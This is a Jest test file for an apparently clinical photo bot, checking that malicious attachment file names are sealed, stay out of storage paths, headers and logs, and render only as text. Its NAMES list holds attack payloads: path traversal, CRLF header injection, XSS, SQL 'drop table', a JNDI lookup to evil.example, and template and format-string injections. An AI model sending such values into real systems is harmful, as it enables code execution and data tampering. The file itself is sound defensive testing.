import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { nurse, registrar } from '../../bot/local/demonstration/people.ts';
import { newKey } from '../../bot/sealed/new-key.ts';
import { openWords, sealWords } from '../../bot/sealed/words.ts';
import { sealContext } from '../../bot/set/sealed.ts';
import { takeCustody } from '../../bot/steps/ingest/take-custody.ts';
import { doorbell } from '../../bot/adapters/teams/doorbell.ts';
import { corpus } from '../corpus/corpus.ts';
import { memoryBlobs } from '../memory/blobs.ts';
import { memoryKeys } from '../memory/keys.ts';
import { photo } from '../viewer/photo.ts';
import { receivedFrom } from '../viewer/seed-set.ts';
import { idOf, openWorld, wardPhotos } from '../viewer/world.ts';
import type { World } from '../viewer/world.ts';

const CANARY = 'CANARY-Ann-Example';
const NAMES: readonly string[] = [
  `../../../../etc/${CANARY}.jpg`,
  `..\\..\\${CANARY}.jpg`,
  `C:\\${CANARY}.jpg`,
  `/${CANARY}`,
  `${CANARY}\u0000.jpg`,
  'CON',
  `NUL.${CANARY}`,
  `${CANARY.repeat(250)}.jpg`,
  `${CANARY}\u202Egpj.exe`,
  `${CANARY}\r\nset-cookie: a=b\r\n\r\n<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>${CANARY}`,
  `'; drop table sets; -- ${CANARY}`,
  `\${jndi:ldap://evil.example/${CANARY}}`,
  `{{7*7}}${CANARY}%s%n`,
  `\u001b[2J\u001b]0;${CANARY}\u0007`,
  `${CANARY}\ud800`,
  `__proto__`,
  '.',
  ' ',
];

describe('A file’s name made to do harm (S7; ASVS 5.0 V5.3.2, V5.4.1, V5.4.2, V1.2.1)', () => {
  let world: World;
  beforeAll(async () => {
    world = await openWorld();
  });
  afterAll(() => world.close());

  it.each(NAMES)('%j names nothing in the stores and is kept sealed', async (name) => {
    const stores = { blobs: memoryBlobs(), keys: memoryKeys() };
    const owner = receivedFrom({
      organisation: 'XHB',
      place: wardPhotos,
      poster: idOf(nurse),
      author: '',
      text: '',
      postedAt: world.clock.now(),
    });
    const key = newKey();
    const wordsKey = await stores.keys.wrap(key);
    const bytes = corpus('patient-a-1.jpg');
    const image = await takeCustody(stores, owner, { bytes, sha256: 'x' }, name, key, {
      origin: owner.origin,
      poster: owner.poster,
      mode: owner.mode,
      postedAt: owner.postedAt,
      receivedAt: owner.receivedAt,
      storedAt: owner.receivedAt,
      lapseAfterMs: owner.lapseAfterMs,
      wordsKey,
      words: sealWords({ text: '', author: '', mentions: [] }, key, sealContext.message(owner)),
    }).catch((error: unknown) => error);
    for (const [path, { bytes: kept }] of stores.blobs.contents) {
      expect(path).toMatch(/^(?:images|keys)\/[0-9a-f]{32}$/);
      expect(Buffer.from(kept).toString('latin1')).not.toContain(CANARY);
    }
    expect(stores.blobs.contents.size).toBe(2);
    expect(JSON.stringify(image)).not.toContain(CANARY);
  });

  it('is opened again as it was, letter for letter', () => {
    const key = newKey();
    const owner = { organisation: 'XHB', id: 'set' } as never;
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (name) => {
        const context = sealContext.details(owner, 'image');
        expect(openWords(sealWords({ name }, key, context), key, context)).toEqual({ name });
      }),
    );
  });

  it('is shown as text alone on the page, turns no line round, and is in no header', async () => {
    const browser = await world.as(registrar);
    for (const name of NAMES) {
      const set = await world.seed([await photo('patient-a-1.jpg', { name })]);
      const page = await browser.get(`/sets/${set.id}`);
      expect([name, page.status]).toEqual([name, 200]);
      expect(page.text).not.toMatch(/<script>|<img src=x|onerror=a[^&]*>|\u202e/u);
      expect(page.text.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
      expect(page.headers.get('set-cookie')).toBeNull();
      for (const variant of ['', '/preview', '/original']) {
        const { status, headers } = await browser.get(
          `/sets/${set.id}/images/${set.images[0]?.id ?? ''}${variant}`,
        );
        expect([name, variant, status]).toEqual([name, variant, 200]);
        const said = JSON.stringify([...headers]);
        expect(said).not.toMatch(/CANARY|set-cookie|\.\.|evil/);
        expect(headers.get('content-disposition')).toMatch(
          /^(?:inline|attachment; filename="safelight-[\w-]{8}\.jpg")$/,
        );
      }
      world.clock.pass(3_000);
    }
    expect(world.logged.join('')).not.toMatch(/CANARY|jndi|drop table/);
  });

  it('on an activity is carried to be sealed, and nothing else is read from it', () => {
    for (const name of NAMES) {
      const activity = {
        id: '1700000000001',
        attachments: [{ contentType: 'image/png', contentUrl: 'https://smba.trafficmanager.net/x', name }],
      };
      expect(doorbell(activity, wardPhotos, 'posted').carried).toEqual([
        { address: 'https://smba.trafficmanager.net/x', kind: 'inline', name },
      ]);
    }
  });
});
